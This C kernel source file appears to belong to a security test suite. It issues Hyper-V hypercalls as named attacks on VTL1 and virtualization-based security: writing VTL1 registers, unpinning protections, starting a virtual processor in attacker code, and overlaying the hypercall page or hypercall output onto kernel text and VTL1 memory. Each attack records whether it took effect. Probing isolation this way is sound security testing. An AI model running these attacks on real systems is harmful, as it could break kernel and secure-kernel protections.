// SPDX-License-Identifier: GPL-2.0-only
/*
 * Hypercalls that are VTL1's to make, and those by which the hypervisor is to write for the attacker.
 */
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <asm/msr.h>
#include <asm/special_insns.h>

#include <hyperv/cpu.h>
#include <hyperv/hypercall.h>
#include <hyperv/registers.h>

#include "attacks.h"

#define REP_ONE (1ull << HV_CALL_REP_COUNT_SHIFT)
#define VTL1 (HV_INPUT_VTL_USE_TARGET | 1)

/* A call whose input a function makes; the effect is that it succeeds. */
static int hypercall_run(u64 control, void *in, u64 out, struct result *result)
{
	int status = hypercall(control, in ? __pa(in) : 0, out);

	free_page((unsigned long)in);
	if (status < 0)
		return status;
	result->effect = !status;
	result->error = -status;
	return 0;
}

static void *input(void)
{
	return (void *)get_zeroed_page(GFP_KERNEL);
}

static int protect_run(const struct attack *attack, struct result *result)
{
	struct hv_modify_vtl_protection_mask *in = input();

	if (!in)
		return -ENODEV;
	in->partition = HV_PARTITION_SELF;
	in->map_flags = HV_MAP_ALL;
	in->pfns[0] = PHYS_PFN(physical(target_text()));
	return hypercall_run(HV_CALL_MODIFY_VTL_PROTECTION_MASK | REP_ONE, in, 0, result);
}

/**
 * struct set - a register to be written
 * @vtl:   whose
 * @name:  of it
 * @value: for it
 */
struct set {
	u8 vtl;
	u32 name;
	u64 value;
};

static int set_run(const struct attack *attack, struct result *result)
{
	const struct set *set = attack->data;
	struct hv_set_vp_registers *in = input();

	if (!in)
		return -ENODEV;
	in->partition = HV_PARTITION_SELF;
	in->vp = HV_VP_SELF;
	in->vtl = set->vtl;
	in->elements[0] = (struct hv_register_assoc){ .name = set->name, .value.low = set->value };
	return hypercall_run(HV_CALL_SET_VP_REGISTERS | REP_ONE, in, 0, result);
}

static int get_run(const struct attack *attack, struct result *result)
{
	const struct set *set = attack->data;
	struct hv_get_vp_registers *in = input();

	if (!in)
		return -ENODEV;
	in->partition = HV_PARTITION_SELF;
	in->vp = HV_VP_SELF;
	in->vtl = set->vtl;
	in->names[0] = set->name;
	return hypercall_run(HV_CALL_GET_VP_REGISTERS | REP_ONE, in, __pa(in) + PAGE_SIZE / 2, result);
}

static int enable_partition_run(const struct attack *attack, struct result *result)
{
	struct hv_enable_partition_vtl *in = input();

	if (!in)
		return -ENODEV;
	in->partition = HV_PARTITION_SELF;
	in->vtl = 1;
	return hypercall_run(HV_CALL_ENABLE_PARTITION_VTL, in, 0, result);
}

#define DISABLE_PARTITION_VTL 0x0e
#define DISABLE_VP_VTL 0x10

/* Calls that the TLFS has no more than numbers of; @data is whether the VP's level is meant. */
static int disable_run(const struct attack *attack, struct result *result)
{
	struct hv_enable_vp_vtl *in = input();
	bool vp = *(const bool *)attack->data;

	if (!in)
		return -ENODEV;
	in->partition = HV_PARTITION_SELF;
	in->vp = HV_VP_SELF;
	in->vtl = 1;
	return hypercall_run(vp ? DISABLE_VP_VTL : DISABLE_PARTITION_VTL, in, 0, result);
}

static void context_fill(struct hv_initial_vp_context *context)
{
	const struct hv_segment code = { .limit = ~0u, .selector = 8, .attributes = 0xa09b };
	const struct hv_segment data = { .limit = ~0u, .selector = 16, .attributes = 0xc093 };

	*context = (struct hv_initial_vp_context){
		.rip = target_own_text(),
		.rflags = 2,
		.cs = code,
		.ds = data,
		.es = data,
		.fs = data,
		.gs = data,
		.ss = data,
		.tr = { .limit = 0xffff, .attributes = 0x8b },
		.efer = 0xd01,
		.cr0 = 0x80050033,
		.cr3 = __native_read_cr3() & PAGE_MASK,
		.cr4 = 0x20,
		.pat = 0x0007040600070406ull,
	};
}

/* Code of the attacker's own as VTL1 of this VP. */
static int enable_vp_run(const struct attack *attack, struct result *result)
{
	struct hv_enable_vp_vtl *in = input();

	if (!in)
		return -ENODEV;
	in->partition = HV_PARTITION_SELF;
	in->vp = HV_VP_SELF;
	in->vtl = 1;
	context_fill(&in->context);
	return hypercall_run(HV_CALL_ENABLE_VP_VTL, in, 0, result);
}

/* Real mode as after INIT, but for where it starts. */
static void start_fill(struct hv_initial_vp_context *context, u64 page)
{
	const struct hv_segment data = { .limit = 0xffff, .attributes = 0x93 };

	*context = (struct hv_initial_vp_context){
		.rflags = 2,
		.cs = {
			.base = page,
			.limit = 0xffff,
			.selector = page >> 4,
			.attributes = 0x9b,
		},
		.ds = data,
		.es = data,
		.fs = data,
		.gs = data,
		.ss = data,
		.tr = { .limit = 0xffff, .attributes = 0x8b },
		.ldtr = { .limit = 0xffff, .attributes = 0x82 },
		.idtr = { .limit = 0xffff },
		.gdtr = { .limit = 0xffff },
		.cr0 = 0x60000010,
		.pat = 0x0007040600070406ull,
	};
}

/* The other VP, which is offline, is to start in the attacker's code, in the level that @data names. */
static int start_vp_run(const struct attack *attack, struct result *result)
{
	u8 vtl = *(const u8 *)attack->data;
	struct hv_enable_vp_vtl *in = input();
	int error;

	if (!in)
		return -ENODEV;
	in->partition = HV_PARTITION_SELF;
	in->vp = 1;
	in->vtl = vtl;
	if (vtl)
		context_fill(&in->context);
	else
		start_fill(&in->context, start_page_prepare());
	send_init(1);
	error = hypercall_run(HV_CALL_START_VIRTUAL_PROCESSOR, in, 0, result);
	if (!vtl)
		result->effect = start_page_ran();
	return error;
}

/* Output into VTL1's memory. */
static int output_vtl1_run(const struct attack *attack, struct result *result)
{
	struct hv_get_vp_registers *in = input();

	if (!in || !argument())
		return -ENODEV;
	in->partition = HV_PARTITION_SELF;
	in->vp = HV_VP_SELF;
	in->names[0] = HV_REGISTER_VSM_CAPABILITIES;
	return hypercall_run(HV_CALL_GET_VP_REGISTERS | REP_ONE, in, argument(), result);
}

/* Output over kernel text: in front of it stands what the registers hold afterwards. */
static int output_run(const struct attack *attack, struct result *result)
{
	struct hv_get_vp_registers *in = input();
	u8 *text = (u8 *)target_text();
	u8 *at = PTR_ALIGN(text, 16), before[16];
	int status;

	if (!in)
		return -ENODEV;
	result->address = physical((unsigned long)at);
	memcpy(before, at, sizeof(before));
	in->partition = HV_PARTITION_SELF;
	in->vp = HV_VP_SELF;
	in->names[0] = HV_REGISTER_VSM_CAPABILITIES;
	status = hypercall(HV_CALL_GET_VP_REGISTERS | REP_ONE, __pa(in), result->address);
	result->error = -status;
	result->effect = !!memcmp(before, at, sizeof(before));
	free_page((unsigned long)in);
	return 0;
}

/* Input out of VTL1's memory: what is there would be told by the status or by the output. */
static int input_run(const struct attack *attack, struct result *result)
{
	if (!argument())
		return -EINVAL;
	result->effect = hypercall(HV_CALL_GET_VP_REGISTERS | REP_ONE, argument(), argument()) !=
			 HV_STATUS_INVALID_PARAMETER;
	return 0;
}

/* The page with the hypervisor's own code, put in the place of one of VTL1's; back at once. */
static int overlay_vtl1_run(const struct attack *attack, struct result *result)
{
	u64 old;
	unsigned long flags;

	if (rdmsrl_safe(HV_MSR_HYPERCALL, &old) || !(old & HV_MSR_ENABLE) || !argument())
		return -ENODEV;
	result->address = argument();
	local_irq_save(flags);
	result->effect = !wrmsrl_safe(HV_MSR_HYPERCALL, argument() | HV_MSR_ENABLE);
	wrmsrl_safe(HV_MSR_HYPERCALL, old);
	local_irq_restore(flags);
	return 0;
}

/* The page with the hypervisor's own code, put in the place of a page of text; back at once. */
static int overlay_run(const struct attack *attack, struct result *result)
{
	const u8 *text = (u8 *)(target_text() & PAGE_MASK);
	u64 old, new;
	unsigned long flags;
	u8 before[16];

	if (rdmsrl_safe(HV_MSR_HYPERCALL, &old) || !(old & HV_MSR_ENABLE))
		return -ENODEV;
	result->address = physical((unsigned long)text);
	new = result->address | HV_MSR_ENABLE;
	memcpy(before, text, sizeof(before));
	local_irq_save(flags);
	result->error = wrmsrl_safe(HV_MSR_HYPERCALL, new) ? -EFAULT : 0;
	result->effect = !!memcmp(before, text, sizeof(before));
	wrmsrl_safe(HV_MSR_HYPERCALL, old);
	local_irq_restore(flags);
	return 0;
}

#define SET(case, run, vtl, name, value) { case, run, NULL, &(const struct set){ vtl, name, value } }
#define START(case, vtl) { case, start_vp_run, NULL, &(const u8){ vtl } }

const struct attack hypercall_attacks[] = {
	{ "hypercall-protection", protect_run, NULL, NULL },
	SET("hypercall-set-vtl1", set_run, VTL1, HV_REGISTER_RIP, 0),
	SET("hypercall-get-vtl1", get_run, VTL1, HV_REGISTER_RIP, 0),
	SET("hypercall-set-own-cr0", set_run, 0, HV_REGISTER_CR0, 0x80040033),
	SET("hypercall-unpin", set_run, VTL1, HV_REGISTER_CR_INTERCEPT_CONTROL, 0),
	SET("hypercall-unprotect", set_run, VTL1, HV_REGISTER_VSM_PARTITION_CONFIG, 0),
	SET("hypercall-secure-config", set_run, VTL1, HV_REGISTER_VSM_SECURE_CONFIG_VTL0, 0),
	START("hypercall-start-vtl0", 0),
	START("hypercall-start-vtl1", 1),
	{ "hypercall-enable-vtl", enable_partition_run, NULL, NULL },
	{ "hypercall-enable-vp", enable_vp_run, NULL, NULL },
	{ "hypercall-disable-partition", disable_run, NULL, &(const bool){ false } },
	{ "hypercall-disable-vp", disable_run, NULL, &(const bool){ true } },
	{ "hypercall-output-vtl1", output_vtl1_run, NULL, NULL },
	{ "hypercall-page-vtl1", overlay_vtl1_run, NULL, NULL },
	{ "hypercall-output-text", output_run, NULL, NULL },
	{ "hypercall-input-vtl1", input_run, NULL, NULL },
	{ "hypercall-page-text", overlay_run, NULL, NULL },
	{ }
};
